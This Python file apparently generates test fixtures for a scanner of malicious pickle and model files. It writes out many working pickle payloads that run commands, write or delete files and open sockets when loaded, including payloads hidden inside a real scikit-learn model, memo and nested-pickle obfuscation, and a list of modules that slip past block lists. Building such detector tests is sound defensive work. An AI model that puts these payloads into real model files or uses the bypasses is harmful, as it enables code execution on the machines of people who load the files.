"""Files that run code when Python loads them."""
import zlib

from attacks import COMMAND, HERE, attack, call, list_, name, new, number, state, stream, text, tuple_

SYSTEM = name("posix", "system")
GOOD = (HERE.parent / "model-sklearn-bundle/model.pkl").read_bytes()


def danger(about, content, names):
    attack("code", about, "E-DANGER", content, dangers=names)


def make():
    direct()
    hidden()
    indirect()
    importing()
    bytecode()
    libraries()


def direct():
    command = text(COMMAND)
    danger("os.system through its real module posix", stream(call(SYSTEM, command)), "posix.system")
    danger("The same on Windows", stream(call(name("nt", "system"), command)), "nt.system")
    danger("os.system under its public name", stream(call(name("os", "system"), command)), "os.system")
    danger("eval", stream(call(name("__builtin__", "eval"), text("open('fine-hostile-sentinel', 'w')"))), "__builtin__.eval")
    danger("exec", stream(call(name("builtins", "exec"), text("import os"))), "builtins.exec")
    danger("open a file for writing", stream(call(name("io", "open"), text("fine-hostile-sentinel"), text("w"))), "io.open")
    danger("Protocol 0 without a single binary byte", f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode(), "os.system")
    danger("INST instead of REDUCE", f"(S'{COMMAND}'\nios\nsystem\n.".encode(), "os.system")
    danger("OBJ instead of REDUCE", b"(" + SYSTEM + command + b"o.", "posix.system")
    popen = name("subprocess", "Popen")
    danger("NEWOBJ of a class that acts when it is made", stream(new(popen, list_(text("touch")))), "subprocess.Popen")
    keywords = b"}" + text("shell") + b"\x88s"
    danger("NEWOBJ_EX with keywords", stream(popen + tuple_(command) + keywords + b"\x92", 4), "subprocess.Popen")
    short = b"\x8c\x05posix\x8c\x06system\x93\x8c" + bytes([len(COMMAND)]) + COMMAND.encode() + b"\x85R"
    danger("STACK_GLOBAL", b"\x80\x04" + short + b".", "posix.system")
    through = name("copy_reg", "_reconstructor")
    danger("A class handed to _reconstructor", stream(through + popen + name("__builtin__", "object") + b"N\x87R"), "subprocess.Popen")
    remove = call(name("shutil", "rmtree"), text("fine-hostile-sentinel"))
    danger("Removes a folder", stream(remove), "shutil.rmtree")
    connect = call(name("socket", "create_connection"), tuple_(text("localhost"), number(9)))
    danger("Opens a connection", stream(connect), "socket.create_connection")
    joined = zlib.compress(stream(call(SYSTEM, command)))
    danger("Compressed as joblib does it", joined, "posix.system")


def hidden():
    command = text(COMMAND)
    payload = call(SYSTEM, command)
    attack("code", "Run and popped before a good model", "E-DANGER", file=GOOD[:2] + payload + b"0" + GOOD[2:], dangers="posix.system")
    attack("code", "Run and dropped with a mark", "E-DANGER", file=GOOD[:2] + b"(" + payload + b"1" + GOOD[2:], dangers="posix.system")
    estimator = new(name("sklearn.linear_model._logistic", "LogisticRegression"))
    danger("Payload in an attribute that no prediction needs", stream(state(estimator, extra_=payload)), "posix.system")
    danger("Payload as a key", stream(b"}" + payload + b"Ns"), "posix.system")
    danger("Payload deep inside of containers", stream(b"]" * 200 + payload + b"a" * 200), "posix.system")
    confused = (
        b"\x80\x04X\x02\x00\x00\x00osq\x00X\x06\x00\x00\x00systemq\x01\x8c\x0ctorch._utils\x94"
        b"\x8c\x02ab\x940000h\x00h\x01\x93\x8c\x02id\x85R."
    )
    danger("The name comes from the memo, not from the text before it", confused, "os.system")
    over = text("torch") + b"q\x07" + text("os") + b"q\x07" + text("system") + b"q\x08" + b"000h\x07h\x08\x93" + command + b"\x85R"
    danger("A memo entry that is stored twice", stream(over, 4), "os.system")
    danger("In a second pickle of the same file", stream(b"K\x01") + stream(payload), "posix.system")
    nested = call(name("pickle", "loads"), b"C" + bytes([len(stream(payload))]) + stream(payload))
    danger("A pickle inside of bytes that loads itself", stream(nested, 3), "pickle.loads")
    danger("The C module of pickle", stream(call(name("_pickle", "loads"), text(""))), "_pickle.loads")
    array = (
        b"\x80\x02" + state(
            new(name("joblib.numpy_pickle", "NumpyArrayWrapper")),
            subclass=name("numpy", "ndarray"), shape=b"K\x01\x85", order=text("C"), allow_mmap=b"\x89",
            dtype=call(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88"),
        )
        + stream(list_(payload)) + b"."
    )
    danger("In the objects of a joblib array", array, "posix.system")


def indirect():
    command = text(COMMAND)
    getattr_ = name("builtins", "getattr")
    module = call(name("builtins", "__import__"), text("os"))
    danger("getattr of an imported module", stream(call(call(getattr_, module, text("system")), command)), ["builtins.__import__", "builtins.getattr"])
    danger("functools.partial of a command", stream(call(name("functools", "partial"), SYSTEM, command)), "posix.system")
    # The state of a partial replaces the function that it was made with.
    swapped = call(name("functools", "partial"), name("builtins", "print")) + tuple_(SYSTEM, b")", b"}", b"N") + b"b"
    danger("The state of a partial swaps its function", stream(call(swapped, command)), "posix.system")
    method = call(name("operator", "methodcaller"), text("system"), command)
    danger("operator.methodcaller", stream(call(method, module)), ["operator.methodcaller", "builtins.__import__"])
    danger("operator.attrgetter", stream(call(call(name("operator", "attrgetter"), text("system")), module)), ["operator.attrgetter", "builtins.__import__"])
    danger("pkgutil.resolve_name finds anything", stream(call(call(name("pkgutil", "resolve_name"), text("os:system")), command)), "pkgutil.resolve_name")
    danger("pydoc.locate finds anything", stream(call(call(name("pydoc", "locate"), text("os.system")), command)), "pydoc.locate")
    danger("importlib", stream(call(name("importlib", "import_module"), text("antigravity"))), "importlib.import_module")
    danger("A dotted name walks through attributes", stream(call(name("numpy", "f2py.os.system"), command), 4), "numpy.f2py.os.system")
    mapped = call(name("builtins", "map"), SYSTEM, list_(command))
    danger("map of a command over a list", stream(call(name("builtins", "list"), mapped)), ["builtins.map"])
    listed = call(name("itertools", "starmap"), SYSTEM, list_(tuple_(command)))
    danger("itertools.starmap, drained by a deque", stream(call(name("collections", "deque"), listed)), "posix.system")
    vector = state(new(name("numpy", "vectorize")), pyfunc=SYSTEM, otypes=text("O"))
    danger("numpy.vectorize with a command as its function", stream(call(vector, list_(command))), "posix.system")
    danger("A default factory", stream(call(name("collections", "defaultdict"), SYSTEM)), "posix.system")
    hints = call(name("typing", "get_type_hints"), state(call(name("functools", "partial"), name("builtins", "print")), __annotations__=b"}"))
    danger("Type hints are evaluated as code", stream(hints), "typing.get_type_hints")
    forward = call(name("typing", "ForwardRef"), text("__import__('os').system('id')"))
    danger("A forward reference holds code", stream(forward), "typing.ForwardRef")
    danger("Only imported, never called", stream(name("antigravity", "fly")), "antigravity.fly")
    danger("setattr on a module", stream(call(name("builtins", "setattr"), name("sys", "modules"), text("x"), b"N")), "builtins.setattr")


def importing():
    """One call each of what block-lists were caught without."""
    for module, attribute in [
        ("pip", "main"), ("pip._internal", "main"), ("ensurepip", "_run_pip"), ("runpy", "run_path"), ("timeit", "timeit"),
        ("code", "interact"), ("pdb", "run"), ("bdb", "Bdb"), ("cProfile", "run"), ("profile", "run"), ("trace", "Trace"),
        ("doctest", "debug_script"), ("webbrowser", "open"), ("pty", "spawn"), ("ctypes", "CDLL"), ("asyncio", "create_subprocess_shell"),
        ("multiprocessing.util", "spawnv_passfds"), ("_posixsubprocess", "fork_exec"), ("idlelib.pyshell", "ModifiedInterpreter"),
        ("lib2to3.pgen2.grammar", "Grammar"), ("distutils.file_util", "write_file"), ("urllib.request", "urlopen"),
        ("smtplib", "SMTP"), ("logging.config", "listen"), ("commands", "getoutput"), ("marshal", "loads"), ("shelve", "open"),
        ("dbm", "open"), ("sqlite3", "connect"), ("zipfile", "ZipFile"), ("tempfile", "mkstemp"), ("uuid", "_get_command_stdout"),
        ("numpy", "load"), ("numpy", "fromfile"), ("numpy.testing._private.utils", "runstring"), ("numpy.f2py.crackfortran", "getlincoef"),
        ("pandas", "read_pickle"), ("pandas", "eval"), ("joblib", "load"), ("torch", "load"), ("torch.hub", "load"),
        ("sklearn.datasets", "fetch_openml"), ("requests", "get"), ("dill._dill", "_import_module"),
        ("cloudpickle.cloudpickle", "subimport"), ("signal", "pthread_kill"), ("gc", "get_objects"), ("sys", "exit"), ("builtins", "help"),
        ("atexit", "register"), ("threading", "Thread"), ("_thread", "start_new_thread"), ("time", "sleep"),
    ]:
        danger(f"{module}.{attribute}", stream(call(name(module, attribute), text("x"))), f"{module}.{attribute}")


def bytecode():
    code = call(name("types", "CodeType"), number(0), b"C\x04\x97\x00y\x00")
    made = call(name("types", "FunctionType"), code, b"}")
    danger("A function from bytecode that is called", stream(call(made), 3), "types.FunctionType")
    builtin = call(name("cloudpickle.cloudpickle", "_builtin_type"), text("CodeType"))
    pickled = call(name("cloudpickle.cloudpickle", "_make_function"), call(builtin, number(0)), b"}", text("f"), b"N", b"N")
    danger("A cloudpickle function that is called", stream(call(pickled)), "cloudpickle.cloudpickle._make_function")
    attack("code", "A cloudpickle function that is only kept", "E-LAMBDA", stream(pickled))
    dill = call(name("dill._dill", "_create_function"), call(name("dill._dill", "_create_code"), number(0)), b"}")
    attack("code", "A dill function", "E-LAMBDA", stream(dill))
    step = state(new(name("sklearn.preprocessing._function_transformer", "FunctionTransformer")), func=pickled, kw_args=b"N")
    ridge = state(new(name("sklearn.linear_model._ridge", "Ridge")), coef_=number(0))
    pipeline = state(new(name("sklearn.pipeline", "Pipeline")), steps=list_(tuple_(text("f"), step), tuple_(text("r"), ridge)))
    attack("code", "A lambda inside of a pipeline", "E-LAMBDA", stream(pipeline))
    attack("code", "A class of its author", "E-CUSTOM", stream(state(new(name("__main__", "Model")), a=b"N")))
    attack("code", "A class of an unknown package", "E-CUSTOM", stream(new(name("my_pkg.features", "AgeBinner"))))
    skeleton = call(name("cloudpickle.cloudpickle", "_make_skeleton_class"), name("builtins", "type"), text("M"), b")", b"}", text("id"), b"N")
    attack("code", "A class whose bytecode is in the file", "E-LAMBDA", stream(skeleton + b")\x81"))


def libraries():
    """Names that look dangerous and are not: these files are harmless, and must not be called anything else."""
    frozen = new(name("scipy.stats._continuous_distns", "norm_gen"))
    bound = call(name("builtins", "getattr"), frozen, text("_ppf"))
    vector = state(new(name("numpy", "vectorize")), pyfunc=bound, otypes=text("d"))
    estimator = state(new(name("sklearn.linear_model._logistic", "LogisticRegression")), penalty=text("l2"))
    search = state(
        new(name("sklearn.model_selection._search", "RandomizedSearchCV")),
        param_distributions=b"}" + text("C") + vector + b"s",
        best_estimator_=estimator,
    )
    attack("harmless", "RandomizedSearchCV with a distribution of scipy.stats", "E-NOTFITTED", stream(search))
    check = call(name("functools", "partial"), name("sklearn.utils.validation", "check_array"))
    check += tuple_(name("sklearn.utils.validation", "check_array"), b")", b"}" + text("dtype") + b"Ns", b"N") + b"b"
    step = state(new(name("sklearn.preprocessing._function_transformer", "FunctionTransformer")), func=check)
    pipeline = state(new(name("sklearn.pipeline", "Pipeline")), steps=list_(tuple_(text("f"), step), tuple_(text("r"), estimator)))
    attack("harmless", "partial of check_array, as gradient boosting has it", "E-NOTFITTED", stream(pipeline))
    logger = state(new(name("sklearn.linear_model._logistic", "LogisticRegression")), log=call(name("logging", "getLogger"), text("x")))
    attack("harmless", "A logger kept in an attribute", "E-NOTFITTED", stream(logger))
